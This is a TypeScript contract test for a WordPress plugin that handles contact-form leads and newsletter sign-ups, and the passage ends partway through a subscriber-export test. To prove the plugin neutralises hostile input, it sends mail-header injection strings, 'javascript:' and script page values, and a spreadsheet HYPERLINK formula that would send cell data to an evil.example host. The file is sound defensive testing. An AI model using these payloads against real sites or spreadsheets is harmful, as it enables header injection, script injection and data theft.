/**
 * Contract test of the Studio Companion plugin (wordpress-plugin/studio-companion)
 * against a real WordPress: the stack of scripts/wordpress with the plugin
 * copied into wp-content/plugins and activated, and the test-only hooks of
 * scripts/wordpress/php/test-mu-plugins (mail written to <run>/mail/*.json,
 * the GitHub API replaced by a receiver on 127.0.0.1 in this file).
 *
 * Requests go over HTTP as the site (or an attacker) would send them; what has
 * no HTTP route in the stack (stored posts, options, cron, wp-admin screens)
 * goes through scripts/wordpress/php/plugin-test.php.
 *
 *   npm run test:contract
 */
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { mailsIn, settled, type Mail, type Stored } from "./wp-mail";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startWordPress, type WordPressStack } from "../../scripts/wordpress/stack";
import { COLLECTIONS } from "../../app/features/collections/table";

const ROOT = path.resolve(import.meta.dirname, "../..");
const PLUGIN = path.join(ROOT, "wordpress-plugin", "studio-companion");
const HELPER = path.join(ROOT, "scripts", "wordpress", "php", "plugin-test.php");
const TEST_HOOKS = path.join(ROOT, "scripts", "wordpress", "php", "test-mu-plugins", "studio-test-hooks.php");
const SITE = "https://www.maple-mortar.example";
const STUDIO = "studio@maple-mortar.example";
const REPO = "maple-mortar/website";
const TOKEN = `github_pat_${randomBytes(30).toString("hex")}`;
const started = Date.now();
const progress = (line: string) => console.log(`[plugin ${((Date.now() - started) / 1000).toFixed(1).padStart(5)} s] ${line}`);

let wp: WordPressStack | undefined;
let startError: unknown;
let adminAuth = "";

// ── The GitHub API stand-in ──────────────────────────────────────────────────
interface Dispatch {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: { ref?: string; inputs?: { source?: string; changes?: string } };
}
type Change = { type: string; id: number; change: string };
/** The changes a request names: a workflow's inputs are strings, so the plugin sends them as JSON. */
const changesIn = (d: Dispatch | undefined): Change[] => JSON.parse(d?.body.inputs?.changes ?? "[]") as Change[];
const dispatches: Dispatch[] = [];
let nextStatus = 204;
/** What the receiver answers the next requests, in order, before `nextStatus`: a status (with headers), or "drop" (the connection closes unanswered). */
const answers: ({ status: number; headers?: Record<string, string>; message?: string; afterMs?: number } | "drop")[] = [];
/** GitHub's message for each status the tests send. */
const MESSAGES: Record<number, string> = { 401: "Bad credentials", 403: "Resource not accessible by personal access token", 429: "API rate limit exceeded", 503: "Service unavailable" };
const receiver = http.createServer((req, res) => {
  let body = "";
  req.on("data", (d: Buffer) => (body += d.toString()));
  req.on("end", () => {
    dispatches.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers, body: JSON.parse(body || "{}") as Dispatch["body"] });
    const answer = answers.shift() ?? { status: nextStatus };
    nextStatus = 204;
    if (answer === "drop") return void req.socket.destroy();
    const reply = () => {
      if (answer.status === 204) res.writeHead(204).end();
      else res.writeHead(answer.status, { "content-type": "application/json", ...answer.headers }).end(JSON.stringify({ message: answer.message ?? MESSAGES[answer.status] ?? "Error", documentation_url: "https://docs.github.com/rest" }));
    };
    if (answer.afterMs) setTimeout(reply, answer.afterMs);
    else reply();
  });
});

// ── Helpers ──────────────────────────────────────────────────────────────────
function stack(): WordPressStack {
  if (!wp) throw new Error(`WordPress did not start: ${(startError as Error)?.message ?? "unknown reason"}`);
  return wp;
}
const ns = (route: string) => `${stack().url}/wp-json/studio-companion/v1/${route}`;

/** Every response body this file saw, to check that the token never appears in one. */
const seen: string[] = [];

interface Res {
  status: number;
  headers: Headers;
  text: string;
  json: any; // eslint-disable-line @typescript-eslint/no-explicit-any
}
async function request(url: string, init: RequestInit & { origin?: string; auth?: string } = {}): Promise<Res> {
  const headers = new Headers(init.headers);
  if (init.origin) headers.set("origin", init.origin);
  if (init.auth) headers.set("authorization", init.auth);
  const res = await fetch(url, { ...init, headers, redirect: "manual", signal: AbortSignal.timeout(30_000) });
  const text = await res.text();
  seen.push(text);
  let json: unknown;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: res.status, headers: res.headers, text, json };
}
const postJson = (url: string, body: unknown, init: RequestInit & { origin?: string; auth?: string } = {}) =>
  request(url, { method: "POST", ...init, headers: { "content-type": "application/json", ...(init.headers as Record<string, string>) }, body: JSON.stringify(body) });
/** REST as the administrator (application password). */
const asAdmin = (method: string, route: string, body?: unknown) =>
  request(`${stack().api}/${route}`, { method, auth: adminAuth, headers: { "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body) });

/** The helper's answer, once WordPress's requests have done their work after their answers (wp-mail.ts). */
async function php<T = unknown>(command: string, ...args: string[]): Promise<T> {
  settled(stack().dir);
  const out = await stack().runPhp(HELPER, [command, ...args]);
  return JSON.parse(out) as T;
}
const phpText = (command: string, ...args: string[]) => (settled(stack().dir), stack().runPhp(HELPER, [command, ...args]));

const leads = () => php<Stored[]>("posts", "lead");
const subscribers = () => php<Stored[]>("posts", "subscriber");
const runDispatch = () => php<{ ran: number }>("cron", "studio_companion_dispatch");
/** Runs the dispatch events whose time has not come yet too (a retry an hour away). */
const runAllDispatches = () => php<{ ran: number }>("cron-all", "studio_companion_dispatch");
/** The dispatch events in WordPress's schedule: seconds from now, and their arguments (a retry's attempt). */
const scheduledDispatches = () => php<{ in: number; args: number[] }[]>("scheduled", "studio_companion_dispatch");

const mails = () => mailsIn(stack().dir);

const lead = (over: Record<string, unknown> = {}) => ({
  name: "Zoë Müller",
  email: "zoe@example.com",
  phone: "+44 20 7946 0000",
  subject: "Kitchen renovation",
  message: "We would like a quote for a new kitchen in our Victorian terrace.",
  ...over,
});

/** RFC 4180 CSV (quotes, doubled quotes, newlines in cells). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(cell), (cell = "");
    else if (c === "\n") row.push(cell), rows.push(row), (row = []), (cell = "");
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

beforeAll(async () => {
  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  const receiverUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
  progress("starting WordPress with the Studio Companion plugin…");
  try {
    wp = await startWordPress({ log: progress, plugins: [PLUGIN], muPlugins: [TEST_HOOKS] });
  } catch (err) {
    startError = err;
    progress(`WordPress did not start: ${(err as Error).message}`);
    return;
  }
  await php(
    "set-options",
    JSON.stringify({
      studio_companion_site_url: `${SITE}/`,
      studio_companion_studio_email: STUDIO,
      studio_companion_github_repo: REPO,
      studio_companion_github_token: TOKEN,
      studio_companion_rate_limit: 1000,
      studio_test_github_api: receiverUrl,
    }),
  );
  const { password } = await php<{ password: string }>("app-password", "clara");
  adminAuth = `Basic ${Buffer.from(`clara:${password}`).toString("base64")}`;
}, 240_000);

afterAll(async () => {
  await wp?.stop();
  await new Promise((resolve) => receiver.close(resolve));
}, 60_000);

// ── Leads ────────────────────────────────────────────────────────────────────
describe("leads: POST /wp-json/studio-companion/v1/leads", () => {
  it("stores a lead sent as the site sends it as a private post, and mails it to the studio with Reply-To the visitor", async () => {
    const before = (await leads()).length;
    const mailsBefore = mails().length;
    const res = await postJson(ns("leads"), lead(), { origin: SITE });
    expect(res.status, res.text).toBe(201);
    expect(res.json).toEqual({ status: "received" });
    expect(res.headers.get("access-control-allow-origin")).toBe(SITE);

    const stored = await leads();
    expect(stored).toHaveLength(before + 1);
    const mine = stored.at(-1)!;
    expect(mine.status).toBe("private");
    expect(mine.title).toBe("Kitchen renovation");
    expect(mine.meta).toMatchObject({ name: "Zoë Müller", email: "zoe@example.com", phone: "+44 20 7946 0000", subject: "Kitchen renovation", message: lead().message, mailed: "1" });

    const sent = mails().slice(mailsBefore);
    expect(sent).toHaveLength(1);
    const mail = sent[0]!;
    expect(mail.to).toBe(STUDIO);
    // Who and what, as the studio's inbox lists it.
    expect(mail.subject).toBe("New enquiry from Zoë Müller: Kitchen renovation");
    expect(mail.headers).toContain("Reply-To: Zoë Müller <zoe@example.com>");
    for (const line of ["Name: Zoë Müller", "E-mail: zoe@example.com", "Phone: +44 20 7946 0000", "Subject: Kitchen renovation", lead().message]) expect(mail.message).toContain(line);
    // A link to this lead in wp-admin, and to them all.
    expect(mail.message).toContain(`This lead: ${stack().url}/wp-admin/post.php?post=${mine.id}&action=edit`);
    expect(mail.message).toContain(`All leads: ${stack().url}/wp-admin/edit.php?post_type=lead`);
  });

  it("answers the visitor before the studio's mail is sent, and marks the lead mailed once it is (decision 211)", async () => {
    const before = mails().length;
    await php("set-options", JSON.stringify({ studio_test_slow_mail: 5000 }));
    try {
      const res = await postJson(ns("leads"), lead({ subject: "Mail after the answer" }), { origin: SITE });
      expect(res.status, res.text).toBe(201);
      // The answer is here; the mail server (5 s in this test) has not been reached yet.
      expect(mailsIn(stack().dir, { settle: false })).toHaveLength(before);
      // Meanwhile (read without waiting for the mail): the lead is kept, its Mail says "sending",
      // no screen says it could not be e-mailed, and it has no "Send again".
      const now = async <T>(...args: string[]) => JSON.parse(await stack().runPhp(HELPER, args)) as T;
      const sending = (await now<Stored[]>("posts", "lead")).at(-1)!;
      expect(sending.meta.mailed).toBe("sending");
      expect((await now<{ cells: Record<string, string> }>("columns", String(sending.id))).cells.studio_mailed).toBe("sending");
      expect(await stack().runPhp(HELPER, ["notices", "administrator"])).not.toContain("could not be e-mailed");
      expect(await now<Record<string, string>>("row-actions", String(sending.id), "administrator")).not.toHaveProperty("studio_resend");
    } finally {
      await php("set-options", JSON.stringify({ studio_test_slow_mail: 0 }));
    }
    // Once the work after the answer is done: one mail, and the lead says it went.
    expect(mails().slice(before).map((m) => m.subject)).toEqual(["New enquiry from Zoë Müller: Mail after the answer"]);
    const mine = (await leads()).at(-1)!;
    expect(mine.title).toBe("Mail after the answer");
    expect(mine.meta.mailed).toBe("1");
  });

  it("a lead still \"sending\" ten minutes after it came was never mailed: it counts as not sent, with Send again (decision 211)", async () => {
    expect((await postJson(ns("leads"), lead({ subject: "A mail that never ran" }), { origin: SITE })).status).toBe(201);
    const mine = (await leads()).at(-1)!;
    expect(mine.meta.mailed).toBe("1");
    // As if the server had stopped between the answer and the mail, nine and then eleven minutes ago.
    await php("set-meta", String(mine.id), "_studio_mailed", "sending");
    await php("age", String(mine.id), "9");
    expect((await php<{ cells: Record<string, string> }>("columns", String(mine.id))).cells.studio_mailed).toBe("sending");
    expect(await phpText("notices", "administrator")).not.toContain("could not be e-mailed");
    await php("age", String(mine.id), "11");
    expect((await php<{ cells: Record<string, string> }>("columns", String(mine.id))).cells.studio_mailed).toBe("not sent");
    expect(await phpText("notices", "administrator")).toMatch(/1 lead from the website could not be e-mailed to you\./);
    expect((await php<Record<string, string>>("row-actions", String(mine.id), "administrator")).studio_resend).toContain(">Send again</a>");
    // Sent again: it is mailed, and nothing is left to send.
    await phpText("resend", "administrator", String(mine.id), "good");
    expect((await leads()).find((l) => l.id === mine.id)!.meta.mailed).toBe("1");
    expect(await phpText("notices", "administrator")).not.toContain("could not be e-mailed");
  });

  it("keeps the site's page the lead was sent from, in the lead, its e-mail and the export; anything but a site path is dropped, never refused", async () => {
    const mailsBefore = mails().length;
    expect((await postJson(ns("leads"), lead({ subject: "Custom home", page: "/services/residential/custom-home-building" }), { origin: SITE })).status).toBe(201);
    const mine = (await leads()).at(-1)!;
    expect(mine.meta.page).toBe("/services/residential/custom-home-building");
    const [mail] = mails().slice(mailsBefore);
    expect(mail!.message).toContain(`Sent from: ${SITE}/services/residential/custom-home-building`);
    const box = await phpText("lead-box", String(mine.id));
    expect(box).toContain("<th scope=\"row\">Sent from</th><td>/services/residential/custom-home-building</td>");
    const rows = parseCsv((await phpText("export", "administrator", "good")).replace(/^\ufeff/, ""));
    expect(rows.find((r) => r[4] === "Custom home")!.at(-1)).toBe("/services/residential/custom-home-building");
    // Another site, a protocol-relative address, script, spaces, a number, too long: the lead is kept without it.
    for (const page of ["https://evil.example/", "//evil.example/x", "javascript:alert(1)", "/a b", "/<script>", 42, `/${"a".repeat(300)}`]) {
      const res = await postJson(ns("leads"), lead({ subject: "Hostile page", page }), { origin: SITE });
      expect(res.status, String(page)).toBe(201);
      expect((await leads()).at(-1)!.meta.page, String(page)).toBe("");
    }
    expect(mails().at(-1)!.message).toContain("Sent from: —");
  });

  it("answers every bad field with the form's own message, and stores and sends nothing", async () => {
    const before = (await leads()).length;
    const mailsBefore = mails().length;
    const M = {
      name: "Name must be at least 2 characters.",
      email: "Please enter a valid email address.",
      subject: "Subject must be at least 3 characters.",
      message: "Message must be at least 10 characters.",
    };
    const cases: [string, Record<string, unknown>, Record<string, string>][] = [
      ["an empty object", {}, M],
      ["a one-letter name", lead({ name: "A" }), { name: M.name }],
      ["a name of spaces around one letter", lead({ name: "   A \u00a0" }), { name: M.name }],
      ["a name that is a number", lead({ name: 42 }), { name: M.name }],
      ["a name that is null", lead({ name: null }), { name: M.name }],
      ["an address without @", lead({ email: "zoe.example.com" }), { email: M.email }],
      ["an address without a top-level domain", lead({ email: "zoe@example" }), { email: M.email }],
      ["an address with a header after a line break", lead({ email: "zoe@example.com\r\nBcc: victim@evil.example" }), { email: M.email }],
      ["an address that is a list", lead({ email: ["zoe@example.com"] }), { email: M.email }],
      ["a two-letter subject", lead({ subject: "Hi" }), { subject: M.subject }],
      ["a nine-letter message", lead({ message: "Too short" }), { message: M.message }],
      ["a message that is an object", lead({ message: { text: "We would like a quote." } }), { message: M.message }],
      ["a phone that is a number", lead({ phone: 442079460000 }), { phone: "Phone must be text." }],
      ["a name over 200 characters", lead({ name: "N".repeat(201) }), { name: "Name must be at most 200 characters." }],
      ["everything wrong at once", { name: "Z", email: "z", subject: "", message: "short" }, M],
    ];
    for (const [what, body, fields] of cases) {
      const res = await postJson(ns("leads"), body, { origin: SITE });
      expect(res.status, what).toBe(400);
      expect(res.json, what).toEqual({ code: "studio_invalid_lead", message: "Some fields are not valid.", data: { status: 400, fields } });
    }
    // No JSON object at all: form encoding, malformed JSON, a JSON list, a JSON string, no body.
    const invalidJson = { code: "studio_invalid_json", message: "Send the form as a JSON object (Content-Type: application/json).", data: { status: 400, fields: {} } };
    const bodies: [string, string | undefined, string][] = [
      ["form encoding", "application/x-www-form-urlencoded", "name=Zo%C3%AB&email=zoe%40example.com"],
      ["malformed JSON", "application/json", '{"name": "Zoë",'],
      ["a JSON list", "application/json", '["Zoë", "zoe@example.com"]'],
      ["a JSON string", "application/json", '"hello"'],
      ["no body", undefined, ""],
    ];
    for (const [what, type, body] of bodies) {
      const res = await request(ns("leads"), { method: "POST", origin: SITE, headers: type ? { "content-type": type } : {}, body });
      expect(res.status, what).toBe(400);
      expect(res.json, what).toEqual(invalidJson);
    }
    expect(await leads()).toHaveLength(before);
    expect(mails()).toHaveLength(mailsBefore);
  });

  it("keeps hostile names and subjects out of the mail's headers", async () => {
    const mailsBefore = mails().length;
    const res = await postJson(ns("leads"), lead({ name: 'Eve\r\nBcc: victim@evil.example, "X" <x@evil.example>', subject: "Hello\r\nBcc: victim@evil.example\nX-Spam: yes" }), { origin: SITE });
    expect(res.status, res.text).toBe(201);
    const [mail] = mails().slice(mailsBefore);
    expect(mail).toBeDefined();
    expect(mail!.to).toBe(STUDIO);
    expect(mail!.subject).not.toMatch(/[\r\n]/);
    for (const h of mail!.headers) {
      expect(h, "one header per line").not.toMatch(/[\r\n]/);
      expect(h).not.toMatch(/^(bcc|cc|to|x-spam):/i);
    }
    const replyTo = mail!.headers.filter((h) => /^reply-to:/i.test(h));
    expect(replyTo).toHaveLength(1);
    // One address (the visitor's); the display name has no quotes, commas or angle brackets left.
    expect(replyTo[0]).toMatch(/^Reply-To: [^<>",;@\r\n]* <zoe@example\.com>$/);
  });

  it("a lead WordPress cannot e-mail is kept, named on every wp-admin screen with what to fix, and Send again mails it once mail works", async () => {
    await php("set-options", JSON.stringify({ studio_test_mail_fails: 1 }));
    let id = 0;
    try {
      expect((await postJson(ns("leads"), lead({ name: "Ana Souza", subject: "Basement" }), { origin: SITE })).status).toBe(201);
      const mine = (await leads()).at(-1)!;
      id = mine.id;
      expect(mine.meta).toMatchObject({ name: "Ana Souza", mailed: "0" });
      const notice = await phpText("notices", "administrator");
      expect(notice).toMatch(/\d+ leads? from the website could not be e-mailed to you\./);
      expect(notice).toContain('Nothing is lost: each is kept under Leads (Mail: not sent).');
      expect(notice).toContain('use &quot;Send again&quot; on the lead.');
      expect(notice).toContain(`href="${stack().url}/wp-admin/edit.php?post_type=lead"`);
      // Only to those who may read leads.
      expect(await phpText("notices", "editor")).not.toContain("could not be e-mailed");
      const actions = await php<Record<string, string>>("row-actions", String(id), "administrator");
      expect(actions.studio_resend).toContain(">Send again</a>");
      // Still failing: it says so, and the lead stays not sent.
      const mailsBefore = mails().length;
      await phpText("resend", "administrator", String(id), "good");
      expect((await leads()).find((l) => l.id === id)!.meta.mailed).toBe("0");
      expect(mails()).toHaveLength(mailsBefore);
      expect(await phpText("notices", "administrator", "failed")).toContain("WordPress could not send it this time either.");
    } finally {
      await php("set-options", JSON.stringify({ studio_test_mail_fails: 0 }));
    }
    // Refused without the capability or the lead's own nonce: nothing is sent.
    const mailsBefore = mails().length;
    expect(await phpText("resend", "editor", String(id), "good")).toContain("Sorry, you are not allowed to send leads.");
    for (const nonce of ["bad", "none"]) expect(await phpText("resend", "administrator", String(id), nonce)).toContain("The link you followed has expired.");
    expect(mails()).toHaveLength(mailsBefore);
    // Mail works again: Send again mails it, and the notice and the row's action go.
    await phpText("resend", "administrator", String(id), "good");
    const sent = mails().slice(mailsBefore);
    expect(sent.map((m) => m.subject)).toEqual(["New enquiry from Ana Souza: Basement"]);
    expect((await leads()).find((l) => l.id === id)!.meta.mailed).toBe("1");
    expect(await phpText("notices", "administrator", "sent")).toContain("The lead was e-mailed to you.");
    expect(await php<Record<string, string>>("row-actions", String(id), "administrator")).not.toHaveProperty("studio_resend");
    // The same link followed again (a second click, a reload) mails nothing more.
    await phpText("resend", "administrator", String(id), "good");
    expect(mails().slice(mailsBefore)).toHaveLength(1);
  });

  it("answers a filled honeypot like a real lead, and stores and sends nothing", async () => {
    const before = (await leads()).length;
    const mailsBefore = mails().length;
    const res = await postJson(ns("leads"), lead({ website: "http://cheap-pills.example" }), { origin: SITE });
    expect(res.status).toBe(201);
    expect(res.json).toEqual({ status: "received" });
    expect(await leads()).toHaveLength(before);
    expect(mails()).toHaveLength(mailsBefore);
  });

  it("allows CORS for the site's origin only, answers the preflight, and refuses another origin's POST", async () => {
    const preflight = await request(ns("leads"), { method: "OPTIONS", origin: SITE, headers: { "access-control-request-method": "POST", "access-control-request-headers": "content-type" } });
    expect(preflight.status).toBe(200);
    expect(preflight.headers.get("access-control-allow-origin")).toBe(SITE);
    expect(preflight.headers.get("access-control-allow-methods")).toMatch(/\bPOST\b/);
    expect(preflight.headers.get("access-control-allow-headers")).toMatch(/\bContent-Type\b/i);
    expect(preflight.headers.get("access-control-allow-credentials")).toBeNull();
    expect(preflight.headers.get("vary")).toMatch(/Origin/);

    const evil = "https://evil.example";
    const foreignPreflight = await request(ns("leads"), { method: "OPTIONS", origin: evil, headers: { "access-control-request-method": "POST" } });
    expect(foreignPreflight.headers.get("access-control-allow-origin")).toBeNull();
    // WordPress itself would echo any origin, with credentials, on every REST route; the plugin does not.
    const foreignGet = await request(`${stack().api}/posts?per_page=1`, { origin: evil });
    expect(foreignGet.status).toBe(200);
    expect(foreignGet.headers.get("access-control-allow-origin")).toBeNull();
    expect(foreignGet.headers.get("access-control-allow-credentials")).toBeNull();
    const siteGet = await request(`${stack().api}/posts?per_page=1`, { origin: SITE });
    expect(siteGet.headers.get("access-control-allow-origin")).toBe(SITE);

    const before = (await leads()).length;
    const refused = await postJson(ns("leads"), lead(), { origin: evil });
    expect(refused.status).toBe(403);
    expect(refused.json).toMatchObject({ code: "studio_forbidden_origin", data: { status: 403 } });
    expect(refused.headers.get("access-control-allow-origin")).toBeNull();
    const sameHostOtherScheme = await postJson(ns("leads"), lead(), { origin: SITE.replace("https:", "http:") });
    expect(sameHostOtherScheme.status).toBe(403);
    expect(await leads()).toHaveLength(before);
  });

  it("leaves WordPress's own CORS alone until the Site URL is set, and refuses browser-origin forms then", async () => {
    await php("set-options", JSON.stringify({ studio_companion_site_url: "" }));
    try {
      const anyGet = await request(`${stack().api}/posts?per_page=1`, { origin: "https://www.maple-mortar.example" });
      expect(anyGet.status).toBe(200);
      expect(anyGet.headers.get("access-control-allow-origin"), "the live site's Load More keeps working").toBe("https://www.maple-mortar.example");
      const before = (await leads()).length;
      const refused = await postJson(ns("leads"), lead(), { origin: SITE });
      expect(refused.status).toBe(403);
      expect(await leads()).toHaveLength(before);
    } finally {
      await php("set-options", JSON.stringify({ studio_companion_site_url: `${SITE}/` }));
    }
  });

  it("keeps leads and subscribers from anonymous visitors: no REST route, not in /types, not on the front end", async () => {
    for (const route of ["lead", "leads", "subscriber", "subscribers"]) {
      const res = await request(`${stack().api}/${route}`);
      expect(res.status, route).toBe(404);
      expect(res.json?.code, route).toBe("rest_no_route");
    }
    const types = await request(`${stack().api}/types`);
    expect(Object.keys(types.json as object)).toEqual(expect.arrayContaining(["post", "portfolio", "faq"]));
    expect(Object.keys(types.json as object)).not.toContain("lead");
    expect(Object.keys(types.json as object)).not.toContain("subscriber");
    // The front end does not show one either (not publicly queryable, private).
    expect((await postJson(ns("leads"), lead(), { origin: SITE })).status).toBe(201);
    const first = (await leads()).at(-1);
    const front = await request(`${stack().url}/?post_type=lead&p=${first!.id}`);
    expect(front.text).not.toContain(first!.meta.message!);
    expect(front.text).not.toContain("zoe@example.com");
    const search = await request(`${stack().api}/search?search=Kitchen%20renovation&subtype=any`);
    expect(JSON.stringify(search.json)).not.toContain("zoe@example.com");
    expect((search.json as { subtype: string }[]).map((r) => r.subtype)).not.toContain("lead");
  });

  it("limits each client address to the configured number per window (6th → 429 with Retry-After), leads and sign-ups apart", async () => {
    await php("set-options", JSON.stringify({ studio_companion_rate_limit: 5, studio_companion_rate_window: 10 }));
    await php("clear-rate-limits");
    try {
      for (const [route, body, ok] of [
        ["leads", lead({ website: "bot" }), 201],
        ["subscribers", { email: "rate@example.com", website: "bot" }, 202],
      ] as const) {
        for (let i = 1; i <= 5; i++) expect((await postJson(ns(route), body, { origin: SITE })).status, `${route} #${i}`).toBe(ok);
        const sixth = await postJson(ns(route), body, { origin: SITE });
        expect(sixth.status, `${route} #6`).toBe(429);
        const retry = Number(sixth.headers.get("retry-after"));
        expect(retry).toBeGreaterThan(500);
        expect(retry).toBeLessThanOrEqual(600);
        expect(sixth.json).toMatchObject({ code: "studio_rate_limited", message: "Too many requests. Please try again in 10 minutes.", data: { status: 429, retry_after: retry } });
        expect(sixth.headers.get("access-control-allow-origin")).toBe(SITE);
      }
    } finally {
      await php("set-options", JSON.stringify({ studio_companion_rate_limit: 1000 }));
      await php("clear-rate-limits");
    }
  });

  it("lists leads in wp-admin with their fields as columns", async () => {
    expect((await postJson(ns("leads"), lead(), { origin: SITE })).status).toBe(201);
    const mine = (await leads()).at(-1)!;
    const { headers, cells } = await php<{ headers: Record<string, string>; cells: Record<string, string> }>("columns", String(mine.id));
    expect(headers).toMatchObject({ title: "Subject", studio_name: "Name", studio_email: "E-mail", studio_phone: "Phone", studio_mailed: "Mail", date: "Received" });
    expect(cells.studio_name).toBe("Zoë Müller");
    expect(cells.studio_email).toBe('<a href="mailto:zoe@example.com">zoe@example.com</a>');
    expect(cells.studio_phone).toBe("+44 20 7946 0000");
    expect(cells.studio_mailed).toBe("sent");
  });

  it("exports leads as CSV for an administrator, with cells a spreadsheet would run as formulas made text", async () => {
    const hostile = lead({
      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      phone: "+1 555 0100",
      subject: "@SUM(1+1) kitchen",
      message: "-2+3 is what the cabinet maker charged, more or less.",
    });
    expect((await postJson(ns("leads"), hostile, { origin: SITE })).status).toBe(201);
    expect((await postJson(ns("leads"), lead(), { origin: SITE })).status).toBe(201);

    const csv = await phpText("export", "administrator", "good");
    expect(csv.startsWith(`\ufeffReceived,Name,E-mail,Phone,Subject,Message,Mail,"Sent from"\n`)).toBe(true);
    const rows = parseCsv(csv.replace(/^\ufeff/, ""));
    expect(rows.length).toBe((await leads()).length + 1);
    const row = rows.find((r) => r[1]?.includes("HYPERLINK"))!;
    expect(row[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(row[3]).toBe("'+1 555 0100");
    expect(row[4]).toBe("'@SUM(1+1) kitchen");
    expect(row[5]).toBe("'-2+3 is what the cabinet maker charged, more or less.");
    for (const r of rows) for (const cell of r) expect(cell, "no cell a spreadsheet would run").not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.some((r) => r[1] === "Zoë Müller" && r[2] === "zoe@example.com")).toBe(true);
  });

  it("gives no CSV without the capability (an editor, even with a valid nonce), with a bad nonce or with none", async () => {
    // Without the capability (an editor, even with a valid nonce), with a bad nonce, or with none: no file.
    const editor = await phpText("export", "editor", "good");
    expect(editor).toContain("Sorry, you are not allowed to export leads.");
    const badNonce = await phpText("export", "administrator", "bad");
    const noNonce = await phpText("export", "administrator", "none");
    for (const out of [badNonce, noNonce]) expect(out).toContain("The link you followed has expired.");
    for (const out of [editor, badNonce, noNonce]) expect(out).not.toContain("Received,Name");
  });
});

// ── Newsletter ───────────────────────────────────────────────────────────────
describe("newsletter: POST /wp-json/studio-companion/v1/subscribers", () => {
  const linkIn = (mail: Mail, action: string) => {
    const m = mail.message.match(new RegExp(`https?://\\S+/subscribers/${action}\\?token=[\\w.]+`));
    if (!m) throw new Error(`no ${action} link in: ${mail.message}`);
    return m[0];
  };
  const statusOf = async (email: string) => (await subscribers()).find((s) => s.meta.email === email)?.meta.status;

  it("keeps a sign-up pending until the confirmation link's button is pressed, then confirmed", async () => {
    const mailsBefore = mails().length;
    const res = await postJson(ns("subscribers"), { email: "  Nia.Okafor@Example.com " }, { origin: SITE });
    expect(res.status, res.text).toBe(202);
    expect(res.json).toEqual({ status: "pending" });
    expect(res.headers.get("access-control-allow-origin")).toBe(SITE);
    const stored = (await subscribers()).find((s) => s.meta.email === "nia.okafor@example.com")!;
    expect(stored.status).toBe("private");
    expect(stored.meta.status).toBe("pending");

    const [mail] = mails().slice(mailsBefore);
    expect(mail!.to).toBe("nia.okafor@example.com");
    const confirm = linkIn(mail!, "confirm");
    const unsubscribe = linkIn(mail!, "unsubscribe");
    expect(confirm.startsWith(ns("subscribers/confirm?token="))).toBe(true);
    expect(mail!.headers).toContain(`List-Unsubscribe: <${unsubscribe}>`);
    expect(mail!.headers).toContain("List-Unsubscribe-Post: List-Unsubscribe=One-Click");

    // Opening the link (as a mail scanner would) changes nothing: it shows a button.
    const page = await request(confirm);
    expect(page.status).toBe(200);
    expect(page.headers.get("content-type")).toMatch(/^text\/html/);
    expect(page.text).toMatch(/<form method="post" action="[^"]+subscribers\/confirm\?token=/);
    expect(await statusOf("nia.okafor@example.com")).toBe("pending");

    const done = await request(confirm, { method: "POST" });
    expect(done.status).toBe(200);
    expect(done.text).toContain("Your subscription is confirmed");
    expect(await statusOf("nia.okafor@example.com")).toBe("confirmed");

    // Signing up again answers the same, sends nothing, and keeps the confirmation.
    const again = await postJson(ns("subscribers"), { email: "nia.okafor@example.com" }, { origin: SITE });
    expect(again.json).toEqual({ status: "pending" });
    expect(mails()).toHaveLength(mailsBefore + 1);
    expect(await statusOf("nia.okafor@example.com")).toBe("confirmed");
    expect((await subscribers()).filter((s) => s.meta.email === "nia.okafor@example.com")).toHaveLength(1);
  });

  it("answers a sign-up before its confirmation mail is sent: a new address answers as a confirmed one does, without a mail server's wait (decision 211)", async () => {
    const before = mails().length;
    await php("set-options", JSON.stringify({ studio_test_slow_mail: 3000 }));
    try {
      const res = await postJson(ns("subscribers"), { email: "quiet.reader@example.com" }, { origin: SITE });
      expect(res.status, res.text).toBe(202);
      expect(res.json).toEqual({ status: "pending" });
      // The answer is here; the confirmation mail (3 s to the mail server in this test) is not yet.
      expect(mailsIn(stack().dir, { settle: false })).toHaveLength(before);
    } finally {
      await php("set-options", JSON.stringify({ studio_test_slow_mail: 0 }));
    }
    expect(mails().slice(before).map((m) => m.to)).toEqual(["quiet.reader@example.com"]);
    expect(await statusOf("quiet.reader@example.com")).toBe("pending");
  });

  it("exports the confirmed subscribers only, with when each signed up and confirmed, for an administrator", async () => {
    const mailsBefore = mails().length;
    // "-2+3@…" and "+tag@…" are addresses the form accepts, and cells a spreadsheet would run.
    for (const email of ["confirmed.one@example.com", "-2+3@example.com", "still.pending@example.com", "gone.away@example.com"]) {
      expect((await postJson(ns("subscribers"), { email }, { origin: SITE })).status).toBe(202);
    }
    const sent = mails().slice(mailsBefore);
    const linkFor = (email: string, action: string) => linkIn(sent.find((m) => m.to === email)!, action);
    for (const email of ["confirmed.one@example.com", "-2+3@example.com", "gone.away@example.com"]) expect((await request(linkFor(email, "confirm"), { method: "POST" })).status).toBe(200);
    expect((await request(linkFor("gone.away@example.com", "unsubscribe"), { method: "POST" })).status).toBe(200);

    const button = await phpText("tablenav", "subscriber", "administrator");
    expect(button).toContain(">Export confirmed (CSV)</a>");
    expect(await phpText("tablenav", "subscriber", "editor")).toBe("");

    const csv = await phpText("export-subscribers", "administrator", "good");
    expect(csv.startsWith('\ufeffE-mail,"First signed up",Confirmed\n')).toBe(true);
    const rows = parseCsv(csv.replace(/^\ufeff/, "")).slice(1);
